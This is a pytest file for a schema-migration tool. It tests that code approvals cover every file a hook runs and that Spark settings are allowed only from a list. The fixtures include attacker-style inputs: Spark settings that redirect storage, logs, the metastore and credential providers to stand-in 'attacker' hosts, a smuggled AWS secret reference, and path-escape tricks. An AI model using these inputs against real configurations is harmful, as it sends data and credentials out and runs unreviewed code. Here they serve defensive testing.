"""An approval of code covers every file that can run, and a Spark setting is safe only by an allow-list.

Tried as an attacker who can get a pull request merged into a repository whose hook the operator approved
once: each later pull request changes code the hook runs without naming it, or names code outside what an
approval covers, or sets a Spark setting that is no "code" by a list of what is dangerous. Each gives a new
id, shown in the pull request's plan, and a refusal by ``apply --reviewed`` with nothing run, or a refusal
where it is written. Real git repositories and the real command; no JVM: every refusal comes before one
starts (tests/test_code_approval_spark.py holds the allow-list against Spark's own registry of settings).
"""
from __future__ import annotations

import subprocess
from collections.abc import Mapping
from pathlib import Path

import git
import pytest

from schemaflow.code_settings import (APPROVAL_VARIABLE, CODE_FILES, OPERATOR_PATHS_VARIABLE, CodeSetting,
                                      declared_code, spark_code_reason)
from schemaflow.errors import SchemaflowError
from schemaflow.gitsource import settings_at
from schemaflow.project import Settings, load_project
from schemaflow.safe_spark_settings import DELTA, SAFE
from tests.gitrepos import commit, example_repo
from tests.inprocess import schemaflow
from tests.projects import schemaflow as run_command
from tests.pull_requests import EXAMPLE_SETTINGS, apply_reviewed, merge, reviewed

CODE_FILE = "a file of the project that code in schemaflow.yaml can run"
NOT_APPROVED = "the operator has not approved them; nothing was run"


@pytest.fixture
def repo(tmp_path: Path) -> git.Repo:
    """main: the example project, merged and applied long ago."""
    return example_repo(tmp_path / "repo")


def write(project: Path, files: Mapping[str, str]) -> None:
    for path, text in files.items():
        (project / path).parent.mkdir(parents=True, exist_ok=True)
        (project / path).write_text(text)


def approved_code(repo: git.Repo, setting: str, files: Mapping[str, str]) -> tuple[Path, CodeSetting]:
    """main with ``setting`` (lines of schemaflow.yaml) and ``files`` merged: the project folder, and the one setting
    that runs code, which the operator has approved since."""
    project = Path(repo.working_tree_dir or "")
    write(project, files)
    merge(repo, EXAMPLE_SETTINGS + setting)
    [approved] = load_project(project, env={}).settings.code
    return project, approved


# What a hook runs that its command does not name: main's files, then a pull request's that changes only those.
ROUTES = [
    pytest.param("after_apply: [python3 -m tools.notify]\n",
                 {"tools/__init__.py": "", "tools/notify.py": "print('notified')\n"},
                 {"tools/__init__.py": "open('pwned', 'w').close()\n"}, "change tools/__init__.py",
                 id="the package's __init__"),
    pytest.param("after_apply: [python3 -m tools.notify]\n",
                 {"tools/__init__.py": "", "tools/notify.py": "import json\nprint(json.dumps('notified'))\n"},
                 {"json.py": "open('pwned', 'w').close()\n\n\ndef dumps(value):\n    return value\n"},
                 "add json.py", id="a module first on sys.path"),
    pytest.param("after_apply: ['for script in hooks.d/*.sh; do sh \"$script\"; done']\n",
                 {"hooks.d/a.sh": "echo notified\n"}, {"hooks.d/b.sh": "touch pwned\n"}, "add hooks.d/b.sh",
                 id="a glob"),
    pytest.param("after_apply: [make -s notify]\n",
                 {"Makefile": "notify:\n\techo notified\n"}, {"Makefile": "notify:\n\ttouch pwned\n"},
                 "change Makefile", id="a Makefile"),
    pytest.param("after_apply: [sh scripts/notify.sh]\n",
                 {"scripts/notify.sh": ". scripts/lib.sh\nnotify\n", "scripts/lib.sh": "notify() { echo notified; }\n"},
                 {"scripts/lib.sh": "notify() { touch pwned; }\n"}, "change scripts/lib.sh",
                 id="a script another sources"),
]


@pytest.mark.parametrize("setting, main, change, step", ROUTES)
def test_a_pull_request_that_changes_only_code_a_hook_runs_gets_a_new_id_and_apply_refuses_it(
        repo, monkeypatch, setting, main, change, step):
    project, approved = approved_code(repo, setting, main)
    write(project, change)  # no setting changes
    commit(repo, "tidy the notification")
    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
    text, html = reviewed(project, monkeypatch)
    [now] = load_project(project, env={}).settings.code  # as apply computes it, from the working tree
    assert now.value == approved.value and now.id != approved.id
    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
    assert f"~ 1. {step}, {CODE_FILE}" in text
    # The pull request's plan read the commit's tree: its id is the one apply computes in the checkout.
    assert (f"hazard: runs code in the apply job: {now.describe()}; apply refuses it until the operator approves id "
            f"{now.id}") in text
    assert f"{step}, {CODE_FILE}" in html and now.id in html and "No changes" not in html

    status, said = apply_reviewed(project)
    assert status == 1 and NOT_APPROVED in said and f"{APPROVAL_VARIABLE}='{now.id}'" in said
    assert not (project / "pwned").exists()
    # The route is real: run as apply would have run it, the hook runs the pull request's code.
    subprocess.run(now.value, shell=True, cwd=project, check=True, capture_output=True)
    assert (project / "pwned").exists()


def test_a_pull_request_that_changes_any_file_of_the_project_folder_is_never_no_changes(repo, monkeypatch):
    project, approved = approved_code(repo, "after_apply: [sh notify.sh]\n", {"notify.sh": "echo notified\n",
                                                                              "README.md": "The warehouse.\n"})
    assert [path for path, _ in approved.files] == ["README.md", "notify.sh"]  # not schemaflow.yaml, not schemas/
    write(project, {"README.md": "The warehouse, documented.\n"})
    commit(repo, "docs")
    text, _ = reviewed(project, monkeypatch)
    assert text.splitlines()[:2] == ["1 step on 1 setting, 0 destructive, 1 hazardous.", ""]
    assert f"~ 1. change README.md, {CODE_FILE}" in text


def test_declarations_and_untracked_files_are_not_covered_and_a_changed_file_is_read_from_disk(repo, monkeypatch):
    project, approved = approved_code(repo, "after_apply: [sh notify.sh]\n", {"notify.sh": "echo notified\n"})
    write(project, {"schemas/retail/orders.yaml": (project / "schemas/retail/orders.yaml").read_text() + "# a note\n",
                    "migrations/0001_x.yaml": "not even a migration\n"})
    commit(repo, "a schema changed")
    write(project, {"reviewed.json": "{}", "scratch.sh": "touch pwned\n"})  # the job's own files: git tracks neither
    [same] = load_project(project, env={}).settings.code
    assert same.id == approved.id
    write(project, {"notify.sh": "touch pwned\n"})  # changed in the checkout, not committed
    [edited] = load_project(project, env={}).settings.code
    assert edited.id != approved.id
    (project / "reviewed.json").unlink()
    (project / "scratch.sh").unlink()
    commit(repo, "the change committed")
    at_head = settings_at(project, "HEAD")  # what plan --base reads: the commit's tree
    assert [setting.id for setting in declared_code(at_head, at_head[CODE_FILES])] == [edited.id]


def test_a_hook_added_with_its_script_is_one_step_whose_id_covers_the_script(repo, monkeypatch):
    project = Path(repo.working_tree_dir or "")
    write(project, {"scripts/notify.sh": "echo notified\n"})
    merge(repo, EXAMPLE_SETTINGS + "after_apply: [sh scripts/notify.sh]\n")
    text, _ = reviewed(project, monkeypatch)
    [hook] = load_project(project, env={}).settings.code
    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
    assert "~ 1. set after_apply in schemaflow.yaml" in text and hook.describe() in text
    assert "with the 1 file of the project folder but its declarations, as it is now" in hook.describe()


def test_outside_git_every_file_below_the_project_folder_but_the_state_folder_is_covered(tmp_path):
    project = tmp_path / "project"
    write(project, {"schemas/retail/t.yaml": "table: retail.t\ncolumns: [{name: a, type: int}]\n",
                    "schemaflow.yaml": "after_apply: [python3 -m tools.notify]\n",
                    "tools/__init__.py": "", "tools/notify.py": "print('notified')\n"})
    [first] = load_project(project, env={}).settings.code
    assert [path for path, _ in first.files] == ["tools/__init__.py", "tools/notify.py"]
    write(project, {".schemaflow/jvm.log": "the JVM's output", "schemas/retail/t.yaml": "table: retail.t\n"})
    assert [c.id for c in load_project(project, env={}).settings.code] == [first.id]
    write(project, {"tools/__pycache__/notify.cpython-311.pyc": "compiled"})  # what Python runs, when it is there
    [later] = load_project(project, env={}).settings.code
    assert later.id != first.id and "tools/__pycache__/notify.cpython-311.pyc" in dict(later.files)


def test_a_symlink_out_of_the_project_folder_is_refused_beside_code_and_kept_in_schemas(tmp_path, monkeypatch):
    repo = example_repo(tmp_path / "repo")
    project = Path(repo.working_tree_dir or "") / "warehouse"  # a project in a folder of its repository
    project.mkdir()
    (project.parent / "schemas").rename(project / "schemas")
    (project.parent / "schemaflow.yaml").rename(project / "schemaflow.yaml")
    write(project.parent, {"shared/tools/__init__.py": "", "shared/tools/notify.py": "print('notified')\n"})
    (project / "tools").symlink_to("../shared/tools")
    commit(repo, "the project in a folder")
    merge_into = project / "schemaflow.yaml"
    merge_into.write_text(EXAMPLE_SETTINGS + "after_apply: [python3 -m tools.notify]\n")
    commit(repo, "a hook that runs the shared tools")
    monkeypatch.chdir(project)
    said = ("tools:1:1: a symlink to '../shared/tools', which leads out of the project folder: settings that run code "
            "could run what it points at, which no approval of them covers; put the files themselves in the project "
            "folder, or remove the link")
    assert schemaflow("validate").err.startswith(said)
    assert schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD").err.startswith(said)
    assert schemaflow("apply", "--auto-approve").err.startswith(said)
    (project / "tools").unlink()  # the working tree without it: the commit's tree still has it
    assert schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD").err.splitlines()[1].startswith(f"HEAD:{said}")
    # Below schemas/, whose files schemaflow reads as YAML (and refuses any other), a link out is kept.
    (project.parent / "shared" / "retail").mkdir()
    (project / "schemas" / "retail" / "products.yaml").rename(project.parent / "shared" / "retail" / "products.yaml")
    (project / "schemas" / "retail" / "products.yaml").symlink_to("../../../shared/retail/products.yaml")
    merge_into.write_text(EXAMPLE_SETTINGS + "after_apply: [echo refreshed]\n")
    assert schemaflow("validate").code == 0


def at(settings: str, written: str) -> str:
    """Where ``written`` starts in ``settings``: schemaflow.yaml:line:column."""
    [(line, column)] = [(number, text.index(written) + 1) for number, text in enumerate(settings.splitlines(), 1)
                        if written in text]
    return f"schemaflow.yaml:{line}:{column}"


BUILT = "a path built as the code runs, so that nobody can review what it names"
OUTSIDE = "a path outside the project folder, below none of the folders the operator supplies code from"
LEADS_OUT = "a path that leads out of the project folder"


# A setting that runs code and a path it may not name; whether a pull request's job, which does not know the
# operator's folders, refuses it too.
@pytest.mark.parametrize("setting, value, named, why, in_pull_request", [
    ("after_apply", 'sh "$PWD/scripts/x.sh"', "$PWD/scripts/x.sh", BUILT, True),
    ("after_apply", "sh /srv/hooks/notify.sh", "/srv/hooks/notify.sh", OUTSIDE, False),
    ("after_apply", "sh ../notify.sh", "../notify.sh", LEADS_OUT, True),
    ("after_apply", "sh scripts/../../notify.sh", "scripts/../../notify.sh", LEADS_OUT, True),
    ("after_apply", "cd .. && sh notify.sh", "..", LEADS_OUT, True),
    ("after_apply", "sh ~/notify.sh", "~/notify.sh", "a path in a home folder", True),
    ("after_apply", "python3 `echo /srv`/x.py", "/srv`/x.py", BUILT, True),  # split as the shell splits it
    ("spark.driver.extraClassPath", "/srv/lib/udfs.jar", "/srv/lib/udfs.jar", OUTSIDE, False),
    ("spark.driver.extraClassPath", "lib/*:../lib/udfs.jar", "../lib/udfs.jar", LEADS_OUT, True),
    ("spark.jars", "file:///srv/lib/udfs.jar", "/srv/lib/udfs.jar", OUTSIDE, False),
    ("spark.driver.extraJavaOptions", "-javaagent:${env:HOME}/agent.jar", "${env:HOME}/agent.jar", BUILT, True),
])
@pytest.mark.parametrize("where", ["project", "target"])
def test_a_code_setting_that_names_a_path_no_approval_covers_is_refused_where_it_is_written(
        repo, monkeypatch, setting, value, named, why, in_pull_request, where):
    if setting == "after_apply":
        entry = f"{setting}: [{value!r}]"
        settings = EXAMPLE_SETTINGS + (entry if where == "project" else f"targets:\n  prod:\n    {entry}") + "\n"
    elif where == "project":
        settings = EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{{setting}: {value!r}, ")
    else:
        settings = EXAMPLE_SETTINGS + f"targets:\n  prod:\n    spark: {{conf: {{{setting}: {value!r}}}}}\n"
    project = merge(repo, settings)
    monkeypatch.chdir(project)
    said = f"{at(settings, repr(value))}: {'spark.conf ' if setting != 'after_apply' else ''}{setting} names {named!r}, {why}"
    target = ("--target", "prod") if where == "target" else ()
    for ran in (schemaflow("validate", *target), schemaflow(*target, "apply", "--auto-approve")):
        assert ran.code == 1 and ran.err.startswith(said), ran.err
        assert ("an approval of code covers the setting as written and the files of the project folder, nothing else; "
                "name a file of the project folder by its path relative to that folder, and one the operator installs "
                f"by its absolute path, below a folder of {OPERATOR_PATHS_VARIABLE}") in ran.err
    pull_request = schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD")
    if in_pull_request:  # the job's checkout is the pull request's head
        assert pull_request.code == 1 and pull_request.err.startswith(said), pull_request.err
    else:  # the job of a pull request does not know the operator's folders: it shows the setting, to be approved
        assert pull_request.code == 2 and "hazard: runs code in the apply job" in pull_request.out
    assert not (project / ".schemaflow").exists()  # no JVM was started


def test_an_operators_folder_makes_an_absolute_path_acceptable_but_never_one_into_the_checkout(
        repo, tmp_path, monkeypatch):
    operator = tmp_path / "operator"
    write(operator, {"notify.sh": "echo notified\n"})
    checkout = Path(repo.working_tree_dir or "")
    settings = (EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{spark.driver.extraClassPath: '{operator}/udfs.jar', ")
                + f"after_apply: ['sh {operator}/notify.sh']\n")
    project = merge(repo, settings)
    monkeypatch.chdir(project)
    assert schemaflow("validate").code == 1  # not the operator's yet
    monkeypatch.setenv(OPERATOR_PATHS_VARIABLE, f"{operator}:relative/ignored")
    assert schemaflow("validate").code == 0
    assert schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD", "--out", "reviewed.json").code == 2
    code = load_project(project, env={OPERATOR_PATHS_VARIABLE: str(operator)}).settings.code
    assert [setting.setting for setting in code] == ["after_apply", "spark.conf spark.driver.extraClassPath"]
    status, said = apply_reviewed(project)  # acceptable is not approved: the operator still approves each id
    assert status == 1 and NOT_APPROVED in said and all(setting.id in said for setting in code)

    # A folder of the operator's that holds the checkout does not make the repository's files the operator's.
    monkeypatch.setenv(OPERATOR_PATHS_VARIABLE, str(tmp_path))
    merge(repo, EXAMPLE_SETTINGS + f"after_apply: ['sh {checkout}/notify.sh']\n")
    ran = schemaflow("validate")
    assert ran.code == 1 and (f"names '{checkout}/notify.sh', a path into the repository's checkout, whose files "
                              "outside the project folder no approval covers") in ran.err


@pytest.mark.parametrize("command", [
    'echo "$SCHEMAFLOW_CHANGED" | curl -d @- https://hooks.example.com/refresh',
    "trino --execute 'CALL system.flush_metadata_cache()' > /dev/null 2>&1",
    "sh scripts/notify.sh --config=conf/notify.yaml >> logs/hooks.log",
    "awk '{print $1/2}' numbers.txt",
])
def test_a_command_that_names_no_path_outside_the_project_is_accepted(repo, monkeypatch, command):
    project = merge(repo, EXAMPLE_SETTINGS + f"after_apply: [{command!r}]\n")
    monkeypatch.chdir(project)
    assert schemaflow("validate").code == 0


# Spark settings no rule of "what runs code" listed, each sending data, logs, credentials or classes elsewhere.
UNLISTED = {
    "spark.hadoop.fs.s3a.endpoint": "s3.attacker.example",
    "spark.hadoop.fs.s3a.bucket.warehouse.endpoint": "s3.attacker.example",
    "spark.eventLog.dir": "s3a://attacker-logs/events",
    "spark.redaction.regex": "(?i)nothing",
    "spark.driver.log.dfsDir": "hdfs://attacker:8020/logs",
    "spark.hadoop.fs.defaultFS": "hdfs://attacker:8020",
    "spark.hadoop.datanucleus.ConnectionURL": "jdbc:postgresql://attacker/metastore",
    "spark.hadoop.hadoop.security.credential.provider.path": "jceks://hdfs@attacker/creds.jceks",
    "spark.hadoop.fs.file.impl": "org.example.fs.localfs",
    "spark.sql.sources.commitProtocolClass": "org.example.commit.protocol",
    "spark.hadoop.hive.metastore.event.listeners": "org.example.listeners.notify",
}


@pytest.mark.parametrize("key", UNLISTED)
def test_a_spark_setting_schemaflow_does_not_know_to_be_safe_needs_the_operator(repo, monkeypatch, key):
    project = merge(repo, EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{{key}: '{UNLISTED[key]}', "))
    text, html = reviewed(project, monkeypatch)
    [code] = load_project(project, env={}).settings.code
    assert code.setting == f"spark.conf {key}" and code.reason == (
        "not a Spark setting schemaflow knows to be safe: it may load code, or send data, logs or credentials "
        "elsewhere")
    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
    assert f"hazard: runs code in the apply job: {code.describe()}" in text and code.id in html
    status, said = apply_reviewed(project)
    assert status == 1 and NOT_APPROVED in said and f"{APPROVAL_VARIABLE}='{code.id}'" in said
    with pytest.raises(SchemaflowError, match="run code when Spark starts, and the operator has not approved"):
        from schemaflow.catalog.hive.session import spark_session

        spark_session(load_project(project, env={}).settings)  # refused before any JVM


@pytest.mark.parametrize("key, value, takes", [
    ("spark.sql.shuffle.partitions", "${env:AWS_SECRET_ACCESS_KEY}", "a whole number, such as 8"),
    ("spark.sql.shuffle.partitions", "4 ", "a whole number, such as 8"),
    ("spark.sql.session.timeZone", "UTC -Dx=1", "a time-zone id, such as UTC, Europe/Paris or +02:00"),
    ("spark.sql.sources.partitionOverwriteMode", "dynamic,static", "one of STATIC, DYNAMIC"),
    ("spark.executor.memory", "4 g", "a size, such as 64m or 134217728 (bytes; units b, k, m, g, t, p, alone or "
                                     "with b)"),
    ("spark.sql.hive.metastore.version", "2.3.10,x", "a Hive release, such as 2.3.10"),
    ("spark.hadoop.hive.metastore.client.socket.timeout", "${system:x}", "a duration, such as 120s (units us, ms, s, "
                                                                         "m or min, h, d)"),
])
def test_a_known_spark_setting_with_a_value_of_another_shape_needs_the_operator(key, value, takes):
    assert spark_code_reason(key, value) == f"not a value schemaflow knows to be safe for this setting, which takes {takes}"


def test_every_listed_setting_is_plain_with_the_values_of_its_shape_and_the_example_projects_stays_plain(
        repo, monkeypatch):
    assert [(key, example) for key, shape in SAFE.items() for example in shape.examples
            if spark_code_reason(key, example)] == []
    assert [(key, example.lower()) for key, shape in SAFE.items() if key not in DELTA for example in shape.examples
            if spark_code_reason(key, example.lower())] == []  # Spark reads these in any case (not a class's name)
    assert load_project(Path(repo.working_tree_dir or ""), env={}).settings.code == ()
    project = merge(repo, EXAMPLE_SETTINGS.replace('"4"', '"8"').replace(
        "conf: {", "conf: {spark.sql.session.timeZone: Europe/Paris, spark.executor.memory: 4g, "))
    text, _ = reviewed(project, monkeypatch)
    assert text.splitlines()[0] == "3 steps on 3 settings, 0 destructive."
    assert Settings(spark_conf={"spark.sql.shuffle.partitions": "8"}).spark_code == ()


def test_the_apply_workflow_gives_the_apply_step_the_operators_folders():
    import yaml

    workflow = yaml.safe_load((Path(__file__).resolve().parent.parent / "schemaflow" / "starter" / "files" /
                               "workflows" / "schemaflow-apply-on-merge.yml").read_text())
    [apply] = [step for job in workflow["jobs"].values() for step in job["steps"]
               if step.get("name") == "Apply what was reviewed, or refuse it as stale"]
    assert apply["env"][OPERATOR_PATHS_VARIABLE] == "${{ vars.SCHEMAFLOW_CODE_PATHS }}"
    assert "--base" not in apply["run"]  # the step that knows the operator's folders checks them


@pytest.mark.spark  # its plan reads the embedded metastore: a process and a JVM of its own, as a user runs it
def test_outside_git_a_plan_saved_in_the_project_folder_is_refused_saying_why(tmp_path):
    from schemaflow.plan.settings_changes import settings_digest
    from schemaflow.workflow import load_plan

    project = tmp_path / "project"
    write(project, {"schemas/retail/t.yaml": "table: retail.t\ncolumns: [{name: a, type: int}]\n",
                    "schemaflow.yaml": "after_apply: [sh notify.sh]\n", "notify.sh": "echo notified\n"})
    assert run_command(project, "plan", "--out", str(project / "plan.json")).returncode == 2
    [hook] = load_project(project, env={}).settings.code  # the operator approves what is there now
    ran = schemaflow("--project", str(project), "--approve-code", hook.id, "apply", str(project / "plan.json"),
                     "--auto-approve")
    assert ran.code == 1 and "it was made with other settings than" in ran.err
    assert "(where they run code, the files of the project folder they cover count too)" in ran.err
    (project / "plan.json").rename(tmp_path / "plan.json")  # kept outside the folder, it is the plan of these files
    assert load_plan(tmp_path / "plan.json").settings == settings_digest(load_project(project, env={}).settings.declared)
